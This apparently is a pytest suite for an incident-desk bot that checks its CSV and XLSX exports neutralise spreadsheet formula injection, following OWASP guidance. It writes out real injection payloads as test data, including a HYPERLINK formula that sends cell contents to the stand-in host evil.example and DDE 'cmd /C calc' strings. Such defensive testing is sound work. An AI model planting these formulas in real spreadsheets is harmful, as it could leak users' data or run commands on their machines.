"""Text a person typed that looks like a spreadsheet formula (``=HYPERLINK(...)``, ``+``, ``-``, ``@``, a
leading tab or carriage return) is written as text by every CSV and XLSX writer: the monthly protocol
(``/report monthly csv|xlsx``) and ``dutydesk export``. The files are read back with the csv module and
openpyxl, as a spreadsheet program would read them (OWASP "CSV Injection")."""

from __future__ import annotations

import csv
import io
from pathlib import Path

import pytest
from openpyxl import load_workbook  # type: ignore[import-untyped]

from bot.cli import run
from commands.reports.report import monthly_protocol
from integrations import reports
from integrations.reports.cells import csv_field
from tests.conftest import EXAMPLES
from tests.harness import DeskHarness
from tests.integrations.reports.seed import REPORT_AT_NOI

HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"Click for details")'
HOSTILE = [
    HYPERLINK,
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "#N/A",
    "=1+1 <!channel> &<> \u200fالرسالة\u200e\nsecond line",
]


async def _desk(noi_config, tmp_path: Path) -> tuple[DeskHarness, str]:  # type: ignore[no-untyped-def]
    db_url = f"sqlite:///{tmp_path / 'desk.db'}"
    h = DeskHarness(noi_config, db_url, REPORT_AT_NOI.replace(day=20, month=11))
    for text in HOSTILE:
        reply = await h.say("ivana", f"/incident other crm {text}")
        assert not reply.is_error, reply.as_text()
    reply = await h.say("maria", "/ack NOI-2026-00001")
    assert not reply.is_error, reply.as_text()
    reply = await h.say("maria", "/resolve NOI-2026-00001 =HYPERLINK(\"http://evil.example\")")
    assert not reply.is_error, reply.as_text()
    return h, db_url


def _protocol(h: DeskHarness):  # type: ignore[no-untyped-def]
    services = h.app.services
    return h.db.read_sync(lambda s: monthly_protocol(s, services, "noi", 2026, 11, services.clock.now()))


def _csv_cells(data: bytes) -> list[str]:
    text = data.decode("utf-8-sig")
    return [cell for row in csv.reader(io.StringIO(text)) for cell in row]


def test_the_helper_follows_owasp() -> None:
    for text in (HYPERLINK, "+1", "-1", "@A1", "\t=1+1", "\r=1+1"):
        assert csv_field(text) == "'" + text
    for text in ("NOI-2026-00001", "Calls fail", " =1", "a=b", "", "—", "2026-11-23 10:04"):
        assert csv_field(text) == text
    assert (csv_field(-49), csv_field(29.2), csv_field(None)) == ("-49", "29.2", "")  # numbers stay numbers


async def test_monthly_csv_neutralises_formulas(noi_config, tmp_path: Path) -> None:  # type: ignore[no-untyped-def]
    h, _ = await _desk(noi_config, tmp_path)
    try:
        cells = _csv_cells(reports.render(_protocol(h), "csv"))
    finally:
        h.close()
    for text in HOSTILE:
        assert _csv(text) in cells
    assert not [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r") and not _number(c)]


async def test_monthly_xlsx_stores_text_as_text(noi_config, tmp_path: Path) -> None:  # type: ignore[no-untyped-def]
    h, _ = await _desk(noi_config, tmp_path)
    try:
        data = reports.render(_protocol(h), "xlsx")
    finally:
        h.close()
    wb = load_workbook(io.BytesIO(data))
    cells = [c for ws in wb.worksheets for row in ws.iter_rows() for c in row if c.value is not None]
    assert [c.coordinate for c in cells if c.data_type == "f"] == []
    texts = {c.value: c.data_type for c in cells if isinstance(c.value, str)}
    for text in HOSTILE:
        assert texts[text] == "s"  # the exact text, stored as a string
    assert all(t == "s" for t in texts.values())
    numbers = [c for c in cells if c.data_type == "n"]
    assert numbers and all(isinstance(c.value, int | float) for c in numbers)


@pytest.mark.usefixtures("pinned_environment_clock")  # the CLI reads the clock from the environment
async def test_export_neutralises_formulas(noi_config, tmp_path: Path) -> None:  # type: ignore[no-untyped-def]
    h, db_url = await _desk(noi_config, tmp_path)
    h.close()
    out = tmp_path / "register.csv"
    code = run(["--database", db_url, "export", "--config", str(EXAMPLES / "noi.toml"), "--customer", "noi",
                "--out", str(out), "--as-of", REPORT_AT_NOI.isoformat()])
    assert code == 0
    with out.open(encoding="utf-8-sig", newline="") as f:
        rows = list(csv.DictReader(f))
    assert [r["description"] for r in rows] == [_csv(t) for t in HOSTILE]
    assert rows[0]["resolution"] == "'=HYPERLINK(\"http://evil.example\")"
    margins = [r["resolution_margin_seconds"] for r in rows]
    assert all(_number(m) for m in margins) and any(m.startswith("-") for m in margins)  # numbers stay numbers
    cells = _csv_cells(out.read_bytes())
    assert not [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r") and not _number(c)]


def _csv(text: str) -> str:
    return text if text.startswith("#") else "'" + text


def _number(text: str) -> bool:
    try:
        float(text)
    except ValueError:
        return False
    return True
